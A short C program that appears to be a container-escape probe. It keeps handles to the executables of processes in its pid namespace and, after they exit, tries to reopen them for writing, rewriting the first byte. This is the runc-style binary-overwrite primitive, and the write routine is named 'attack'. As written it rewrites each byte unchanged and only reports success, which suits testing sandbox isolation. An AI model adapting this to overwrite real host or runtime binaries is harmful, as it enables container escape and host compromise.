// Keeps the executables of processes that turn up in its pid namespace, and when they have ended, opens them for writing
// and writes the first byte again. A line says for each path which of these succeeded: `held`, `opened`, `written`.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define HELD 256
#define AHEAD 12

static struct {
  int fd, pid;
  char path[256];
} held[HELD];
static int count;

static void say(const char *what, const char *path) {
  static char said[512][300];
  static int lines;
  char line[300];
  snprintf(line, sizeof line, "%s %s", what, path);
  for (int i = 0; i < lines; i++)
    if (strcmp(said[i], line) == 0) return;
  if (lines < 512) strcpy(said[lines++], line);
  puts(line);
  fflush(stdout);
}

static void hold(int pid) {
  char name[64], path[256] = "";
  snprintf(name, sizeof name, "/proc/%d/exe", pid);
  int fd = open(name, O_PATH);
  if (fd < 0) return;
  snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
  if (count == HELD || readlink(name, path, sizeof path - 1) < 0) {
    close(fd);
    return;
  }
  held[count].fd = fd, held[count].pid = pid;
  strcpy(held[count++].path, path);
  say("held", path);
}

/* False while somebody still executes it. */
static int attack(int fd, const char *path) {
  char name[64], first;
  snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
  int file = open(name, O_RDWR);
  if (file < 0) return errno != ETXTBSY;
  say("opened", path);
  if (pread(file, &first, 1, 0) == 1 && pwrite(file, &first, 1, 0) == 1) say("written", path);
  close(file);
  return 1;
}

static int is_gone(int pid) {
  char name[64];
  snprintf(name, sizeof name, "/proc/%d", pid);
  return access(name, F_OK) != 0;
}

static int last_pid(void) {
  char text[128] = "";
  int fd = open("/proc/loadavg", O_RDONLY);
  ssize_t size = read(fd, text, sizeof text - 1);
  close(fd);
  return size > 0 ? atoi(strrchr(text, ' ') + 1) : 0;
}

int main(void) {
  int next = getpid() + 1;
  say("ready", "");
  for (;;) {
    for (int pid = next; pid < next + AHEAD; pid++) hold(pid);
    int last = last_pid();
    if (last > next + AHEAD / 2) next = last - AHEAD / 2;
    for (int i = count - 1; i >= 0; i--) {
      if (!attack(held[i].fd, held[i].path) && !is_gone(held[i].pid)) continue;
      close(held[i].fd);
      held[i] = held[--count];
    }
  }
}
